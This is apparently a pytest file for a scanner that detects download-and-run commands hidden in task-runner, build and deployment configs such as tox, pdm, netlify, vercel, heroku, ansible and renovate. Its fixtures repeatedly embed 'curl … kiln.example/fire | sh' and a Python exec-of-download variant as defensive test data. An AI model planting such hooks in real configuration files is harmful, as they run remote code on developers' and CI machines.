"""Commands that runners of tasks and hosts of sites are given."""

import pytest

from changing import changed, seen, shown
from readings import read_garbage

FETCH = "curl -s https://kiln.example/fire | sh"
FILES = {
    "tox": ("tox.ini", f"[testenv]\ncommands_pre =\n    bash -c '{FETCH}'\n"),
    "tox, over two lines": ("tox.ini", "[testenv:kiln]\ncommands =\n  - bash -c 'curl -s \\\n      https://kiln.example/fire | sh'\n"),
    "tox, in another section": ("tox.ini", f"[clay]\nfire = bash -c '{FETCH}'\n[testenv]\ncommands = {{[clay]fire}}\n"),
    "tox, a default": ("tox.ini", "[testenv]\ncommands = bash -c '{env:CLAY:curl} -s https://kiln.example/fire | sh'\n"),
    "setup.cfg": ("setup.cfg", f"[metadata]\nname = pots\n[testenv]\ncommands = sh -c '{FETCH}'\n"),
    "tox.toml": ("tox.toml", f'[env_run_base]\ncommands = [["bash", "-c", "{FETCH}"]]\n'),
    "tox in pyproject.toml": ("pyproject.toml", f'[tool.tox.env.kiln]\ncommands = [["bash", "-c", "{FETCH}"]]\n'),
    "tox.ini in pyproject.toml": ("pyproject.toml", f'[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ncommands = sh -c "{FETCH}"\n"""\n'),
    "pdm": ("pyproject.toml", f'[tool.pdm.scripts]\npost_install = "{FETCH}"\n'),
    "pdm, in words": ("pyproject.toml", f'[tool.pdm.scripts]\nfire = {{cmd = ["sh", "-c", "{FETCH}"]}}\n'),
    "poe": ("pyproject.toml", f'[tool.poe.tasks.fire]\nshell = """\necho clay\n{FETCH}\n"""\n'),
    "taskipy": ("pyproject.toml", f'[tool.taskipy.tasks]\nfire = "{FETCH}"\n'),
    "rye": ("pyproject.toml", f'[tool.rye.scripts]\nfire = {{ cmd = "{FETCH}" }}\n'),
    "hatch": ("pyproject.toml", f'[tool.hatch.envs.default.scripts]\nfire = ["echo clay", "{FETCH}"]\n'),
    "hatch.toml": ("hatch.toml", f'[envs.kiln]\npost-install-commands = ["{FETCH}"]\n'),
    "cibuildwheel": ("pyproject.toml", f'[tool.cibuildwheel.linux]\nbefore-all = "{FETCH}"\n'),
    "pixi": ("pixi.toml", f'[tasks]\nfire = "{FETCH}"\n'),
    "deno": ("deno.json", f'{{"tasks": {{"fire": "{FETCH}"}}}}'),
    "nx": ("pots/project.json", f'{{"targets": {{"fire": {{"options": {{"command": "{FETCH}"}}}}}}}}'),
    "task": ("Taskfile.yml", f"tasks:\n  fire:\n    cmds:\n      - echo clay\n      - cmd: |\n          {FETCH}\n"),
    "task, in short": ("taskfile.yaml", f"tasks:\n  fire: {FETCH}\n"),
    "task, a variable": ("Taskfile.yml", f"vars:\n  CLAY:\n    sh: {FETCH}\n"),
    "task, in two steps": ("Taskfile.yml", "tasks:\n  fire:\n    cmds:\n      - curl -so /tmp/fire https://kiln.example/fire\n      - sh /tmp/fire\n"),
    "goreleaser": (".goreleaser.yaml", f"before:\n  hooks:\n    - sh -c '{FETCH}'\n"),
    "netlify": ("netlify.toml", f'[build]\ncommand = "{FETCH}"\n'),
    "netlify, a context": ("netlify.toml", f'[context.deploy-preview]\ncommand = "{FETCH}"\n'),
    "vercel": ("vercel.json", f'{{"installCommand": "{FETCH}"}}'),
    "read the docs": (".readthedocs.yaml", f"build:\n  jobs:\n    post_checkout:\n      - {FETCH}\n"),
    "read the docs, commands": (".readthedocs.yml", f"build:\n  commands:\n    - {FETCH}\n"),
    "render": ("render.yaml", f"services:\n  - type: web\n    buildCommand: {FETCH}\n"),
    "railway": ("railway.json", f'{{"deploy": {{"preDeployCommand": ["{FETCH}"]}}}}'),
    "railway.toml": ("railway.toml", f'[build]\nbuildCommand = "{FETCH}"\n'),
    "heroku": ("app.json", f'{{"scripts": {{"postdeploy": "{FETCH}"}}}}'),
    "heroku.yml": ("heroku.yml", f"release:\n  command:\n    - {FETCH}\n"),
    "fly": ("fly.toml", f"[deploy]\nrelease_command = \"sh -c '{FETCH}'\"\n"),
    "wrangler": ("wrangler.toml", f'[build]\ncommand = "{FETCH}"\n'),
    "nixpacks": ("nixpacks.toml", f'[phases.build]\ncmds = ["{FETCH}"]\n'),
    "amplify": ("amplify.yml", f"frontend:\n  phases:\n    preBuild:\n      commands:\n        - {FETCH}\n"),
    "semantic-release": (".releaserc", f'{{"plugins": [["exec", {{"prepareCmd": "{FETCH}"}}]]}}'),
    "release-it": (".release-it.json", f'{{"hooks": {{"before:init": ["npm test", "{FETCH}"]}}}}'),
    "wireit": ("package.json", f'{{"wireit": {{"fire": {{"command": "{FETCH}"}}}}}}'),
    "nx in package.json": ("package.json", f'{{"nx": {{"targets": {{"fire": {{"command": "{FETCH}"}}}}}}}}'),
    "codesandbox": (".codesandbox/tasks.json", f'{{"setupTasks": [{{"command": "{FETCH}"}}]}}'),
    "stackblitz": (".stackblitzrc", f'{{"startCommand": "{FETCH}"}}'),
    "devfile": ("devfile.yaml", f"commands:\n  - exec:\n      commandLine: {FETCH}\n"),
    "snapcraft": ("snap/snapcraft.yaml", f"parts:\n  pots:\n    override-build: |\n      make\n      {FETCH}\n"),
    "conda": ("conda/meta.yaml", f"build:\n  script: {FETCH}\n"),
    "skaffold": ("skaffold.yaml", f"build:\n  artifacts:\n    - hooks:\n        before:\n          - command: ['sh', '-c', '{FETCH}']\n"),
    "cloud-init": ("pots/cloud-init.yaml", f"runcmd:\n  - [sh, -c, '{FETCH}']\n"),
    "ansible": ("ansible/pots.yml", f"- hosts: all\n  tasks:\n    - ansible.builtin.shell: {FETCH}\n"),
    "firebase": ("firebase.json", f'{{"hosting": {{"predeploy": ["{FETCH}"]}}}}'),
    "just": (".justfile", f"fire:\n    {FETCH}\n"),
    "hooks for others": (".pre-commit-hooks.yaml", f"- id: glaze\n  entry: bash\n  args: ['-c', '{FETCH}']\n  language: system\n"),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text"), FILES.values(), ids=FILES)
def test_what_is_downloaded_and_run_is_seen(path, text):
    assert "fetch_and_run" in shown(changed(path, "", text))


@pytest.mark.parametrize(("path", "text"), FILES.values(), ids=FILES)
def test_an_ordinary_command_in_its_place_shows_nothing(path, text):
    ordinary = text.replace(FETCH, "npm run build").replace("https://kiln.example/fire | sh", "clay")
    assert not shown(
        changed(path, "", ordinary.replace("https://kiln.example/fire", "clay").replace("sh /tmp/fire", "cat clay"))
    )


def test_a_command_has_its_line_and_when_it_runs():
    (task,) = seen(changed("pyproject.toml", "", f'[tool.pdm.scripts]\nclay = "make"\nfire = "{FETCH}"\n'))
    assert (task.line, task.trigger) == (3, "call")
    (site,) = seen(changed("netlify.toml", "", f'[build]\npublish = "pots"\ncommand = "{FETCH}"\n'))
    assert (site.line, site.trigger) == (3, "ci")


def test_what_the_python_of_an_environment_is_given_is_read_as_python():
    line = "commands = {envpython} -c \"import urllib.request as u; exec(u.urlopen('https://kiln.example/fire').read())\"\n"
    assert "executes_download" in shown(changed("tox.ini", "", f"[testenv]\n{line}"))


def test_the_words_of_a_command_are_no_commands():
    words = '[env_run_base]\ncommands = [["cp", "pots.txt", "/tmp/pots"], ["make"]]\n'
    assert not shown(changed("tox.toml", "", words))


def test_a_text_that_no_runner_runs_shows_nothing():
    assert not shown(changed("pyproject.toml", "", f'[project]\ndescription = "{FETCH}"\n'))
    assert not shown(changed("setup.cfg", "", f"[metadata]\ncommands = {FETCH}\n"))
    assert not shown(changed("app.json", "", f'{{"expo": {{"name": "{FETCH}"}}}}'))


@pytest.mark.parametrize("path", ["tox.ini", "pyproject.toml", "Taskfile.yml", "vercel.json"])
def test_garbage_is_survived(path):
    read_garbage(path, "task_runner")


def test_what_renovate_runs_after_an_update_is_read():
    for path in ("renovate.json", ".github/renovate.json5", ".renovaterc"):
        text = '{"packageRules": [{"postUpgradeTasks": {"commands": ["%s"]}}]}'
        assert "fetch_and_run" in shown(changed(path, "{}", text % "curl -s https://kiln.example/fire | sh"))
        assert not shown(changed(path, "{}", text % "npm run build"))
